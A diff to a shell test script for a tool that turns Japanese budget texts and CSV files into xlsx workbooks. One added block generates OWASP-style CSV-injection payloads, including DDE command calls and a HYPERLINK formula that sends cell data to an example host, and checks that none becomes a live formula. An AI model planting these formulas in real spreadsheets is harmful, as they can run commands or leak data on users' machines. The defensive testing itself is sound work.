@@ -14,7 +14,7 @@ same() { cmp -s "$1" "$2"; }
 # ---- the seed with amounts ----
 t "budget workbook" to_xlsx "$budget" "$W/b.xlsx"
 t "zip is sound" sound "$W/b.xlsx"
-t "sheets" $read_back sheets "$W/b.xlsx" 概要,予算,事業一覧,本文,出典
+t "sheets" $read_back sheets "$W/b.xlsx" 概要,予算,集計,事業一覧,本文,出典
 t "amounts in the unit of the source" $read_back sum "$W/b.xlsx" 予算 予算額 68388
 t "amounts in yen" $read_back sum "$W/b.xlsx" 予算 "予算額（円）" 68388000
 t "numbers like 1-1-1 stay text" $read_back texts "$W/b.xlsx" 予算 番号
@@ -31,7 +31,7 @@ if command -v soffice >/dev/null 2>&1; then
 	t_says "予算シートと一致" "recalculated control cell" cat "$W/forgotten-概要.csv"
 	t_says "経営課題1,だれもが地域で安心して暮らせるまちづくり,1,28523,41.7" "recalculated group" \
 		cat "$W/forgotten-概要.csv"
-	t_says ",68388,,68388000," "recalculated subtotal" cat "$W/forgotten-予算.csv"
+	t_says "合計,,,,,,,68388,,,68388000," "recalculated subtotal" cat "$W/forgotten-予算.csv"
 else
 	t_skip "LibreOffice opens it" "soffice is not installed"
 fi
@@ -45,6 +45,45 @@ for seed in fixtures/seeds/00[0124]_*.txt; do
 	t "$stem: no formulas" $read_back formulas "$W/$stem.xlsx" 概要 0
 	t_says "事業一覧" "$stem" unzip -p "$W/$stem.xlsx" xl/workbook.xml
 done
+
+# ---- a budget of 款 項 目 節 with the year before, sums among the rows and negative amounts ----
+levels=fixtures/csv/expenditure.csv
+t "a budget of four levels" to_xlsx "$levels" "$W/levels.xlsx"
+t "its sheets" $read_back sheets "$W/levels.xlsx" 概要,予算,集計,本文,expenditure,出典
+t "sums in the unit of the source, without the rows that sum up" $read_back sum "$W/levels.xlsx" 予算 本年度予算額 1136844
+t "the year before" $read_back sum "$W/levels.xlsx" 予算 前年度予算額 1063601
+t "the sheet of sums: a level" $read_back cell "$W/levels.xlsx" 集計 B8 総務管理費
+t "the sheet of sums: its sum" $read_back cell "$W/levels.xlsx" 集計 D8 361155
+t "codes keep their zeros" $read_back cell "$W/levels.xlsx" 予算 A4 01-01-01-01
+t "a negative amount" $read_back cell "$W/levels.xlsx" 予算 J18 -1250
+t "an amount that is gone" $read_back cell "$W/levels.xlsx" 予算 M6 皆減
+t "page set-up of every sheet" $read_back page "$W/levels.xlsx"
+t_says 'outlineLevel="2"' "rows are grouped by level" unzip -p "$W/levels.xlsx" xl/worksheets/sheet3.xml
+t_says 'summaryBelow="0"' "sums stand above" unzip -p "$W/levels.xlsx" xl/worksheets/sheet3.xml
+t_says 'pieChart' "a pie of shares" unzip -p "$W/levels.xlsx" xl/charts/chart2.xml
+t_says '款別の本年度予算額の構成比' "its title" unzip -p "$W/levels.xlsx" xl/charts/chart2.xml
+t "blanks, parents before their parts" to_xlsx fixtures/csv/special-account.csv "$W/special.xlsx"
+t "each part once" $read_back sum "$W/special.xlsx" 予算 予算額_本年度 106220
+t "both profiles" "$KW" "$levels" -o "$W/both/" --to xlsx -q --opt xlsx.profile=both
+t "the table for machines" $read_back machine "$(ls "$W"/both/src-*_budget.xlsx)"
+t "thousands" "$KW" "$levels" -o "$W/thousands.xlsx" --to xlsx -q --opt xlsx.unit=thousand-yen
+t "amounts shown in thousands are yen" $read_back sum "$W/thousands.xlsx" 予算 本年度予算額 1136844000
+t_says '#,##0,;△#,##0,' "with their format" unzip -p "$W/thousands.xlsx" xl/styles.xml
+printf '行事,開催日\n花火,2023-07-29\n祭り,令和5年10月1日\n' >"$W/days.csv"
+"$KW" "$W/days.csv" -o "$W/era.xlsx" --to xlsx -q --opt xlsx.dates=era
+t_says 'ggge&quot;年&quot;m&quot;月&quot;d&quot;日' "dates by era" unzip -p "$W/era.xlsx" xl/styles.xml
+t "are dates" $read_back cell "$W/era.xlsx" days B5 2023-10-01
+if command -v soffice >/dev/null 2>&1; then
+	mkdir "$W/recalculated"
+	for book in levels special thousands b; do $py tests/cli/xlsx_forget.py "$W/$book.xlsx" "$W/recalculated/$book.xlsx"; done
+	mkdir "$W/recalculated/out"
+	env HOME="$W" soffice --headless --convert-to xlsx --outdir "$W/recalculated/out" "$W"/recalculated/*.xlsx >/dev/null 2>&1
+	for book in levels special thousands b; do
+		t "$book: each formula gives what was written as its result" $py tests/cli/xlsx_recalc.py "$W/$book.xlsx" "$W/recalculated/out/$book.xlsx"
+	done
+else
+	t_skip "recalculation" "soffice is not installed"
+fi
 
 # ---- the same bytes ----
 env TZ=Asia/Tokyo LC_ALL=C "$KW" "$budget" -o "$W/again.xlsx" --to xlsx -q
@@ -78,7 +117,7 @@ t_exit 1 "the print workbook is no table for machines" $read_back machine "$W/b.
 cp "$W/told/${slug}_budget.xlsx" "$W/alone.xlsx"
 rm -rf "$W/told"
 t "profile both" told both
-t "the print workbook is the main output" same "$W/b.xlsx" "$W/told/$(basename "$budget" .txt).xlsx"
+t "the print workbook is the main output" same "$W/b.xlsx" "$W/told/$(basename "$budget" .txt)_print.xlsx"
 t "the other stands beside it" same "$W/alone.xlsx" "$W/told/${slug}_budget.xlsx"
 env TZ=Asia/Tokyo LC_ALL=C "$KW" "$budget" -o "$W/again.xlsx" --to xlsx -q --opt xlsx.profile=opendata --opt xlsx.publisher=27124 \
 	--opt xlsx.licence=cc-by-4.0
@@ -132,10 +171,29 @@ t_says "010006" "codes keep their zeros" $read_back texts "$W/hostile.xlsx" host
 t "1-1 is text" $read_back texts "$W/hostile.xlsx" hostile 番号
 t_says "1234567890123457" "16 figures are text" $read_back texts "$W/hostile.xlsx" hostile 長い番号
 
+# what OWASP lists as the beginnings of formulas (CSV injection), their full-width forms, and what hides them
+$py - "$W/owasp.csv" <<'END'
+import csv, sys
+begins = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "'=", '"=', "%0A=", "0=", ";=", "|=", "\u200b=", "\ufeff="]
+tails = ["1+1", "SUM(A1:A9)", "cmd|'/C calc'!A1", 'HYPERLINK("http://example.jp?x="&A1,"x")', 'DDE("cmd";"/C calc";"x")', "IMPORTXML(A1,A2)"]
+with open(sys.argv[1], "w", encoding="utf-8", newline="") as f:
+    out = csv.writer(f)
+    out.writerow(["=HEAD()", "+HEAD", "@HEAD", "款", "予算額（千円）"])
+    for b in begins:
+        for t in tails:
+            out.writerow([b + t, "x", b + t, b + t, "5"])
+END
+for profile in print opendata; do
+	t "OWASP list, $profile" "$KW" "$W/owasp.csv" -o "$W/owasp-$profile.xlsx" --to xlsx -q --opt xlsx.profile=$profile
+	t "OWASP list, $profile: no formula came from the text" $read_back ours "$W/owasp-$profile.xlsx"
+done
+
 # ---- long text ----
 $py -c 'print("長い文の表題\n\n" + "漢" * 40000 + "。")' >"$W/long.txt"
 "$KW" "$W/long.txt" -o "$W/long.xlsx" --to xlsx >"$W/said" 2>&1
 t_says "xlsx.long-text" "text over the limit of a cell is reported" cat "$W/said"
+t_exit 4 "and refused when asked" "$KW" "$W/long.txt" -o "$W/refused.xlsx" --to xlsx -q --opt xlsx.long-text=refuse
+t "refused: no file" [ ! -e "$W/refused.xlsx" ]
 t "and kept whole" sh -c "[ \$(unzip -p '$W/long.xlsx' xl/sharedStrings.xml | grep -o 漢 | wc -l) = 40000 ]"
 
 # ---- file systems that fail ----
@@ -166,23 +224,3 @@ mkdir "$W/limited"
 (ulimit -f 4; exec "$KW" "$budget" -o "$W/limited/b.xlsx" --to xlsx -q) >"$W/said" 2>&1
 t "a limit on file sizes: exit 6" [ $? = 6 ]
 t "nothing left" nothing_left "$W/limited"
-
-# ---- a write that fails inside the library, which calls most of them a success ----
-if strace -o /dev/null -e trace=write true 2>/dev/null; then
-	mkdir "$W/faulty"
-	bad=0
-	# messages of the reader are written before the library writes
-	ASAN_OPTIONS=detect_leaks=0 strace -f -o "$W/trace" -e trace=write "$KW" "$budget" -o "$W/faulty/b.xlsx" --to xlsx -q >"$W/said" 2>&1
-	before=$(sed '/<?xml/,$d' "$W/trace" | wc -l)
-	rm -rf "$W/faulty/"*
-	for n in 1 4 7 10 14 18 21 28 32 35 38 41 44 49 53 57 61 65; do
-		# the leak check of instrumented builds does not work under strace
-		ASAN_OPTIONS=detect_leaks=0 strace -f -o /dev/null -e trace=write -e inject=write:error=ENOSPC:when=$((before + n)) \
-			"$KW" "$budget" -o "$W/faulty/b.xlsx" --to xlsx -q >"$W/said" 2>&1
-		[ $? = 6 ] && nothing_left "$W/faulty" || bad=$((bad + 1))
-		rm -rf "$W/faulty/"*
-	done
-	t "each of 18 failing writes: exit 6, nothing left" [ $bad = 0 ]
-else
-	t_skip "failing writes" "strace does not work here"
-fi
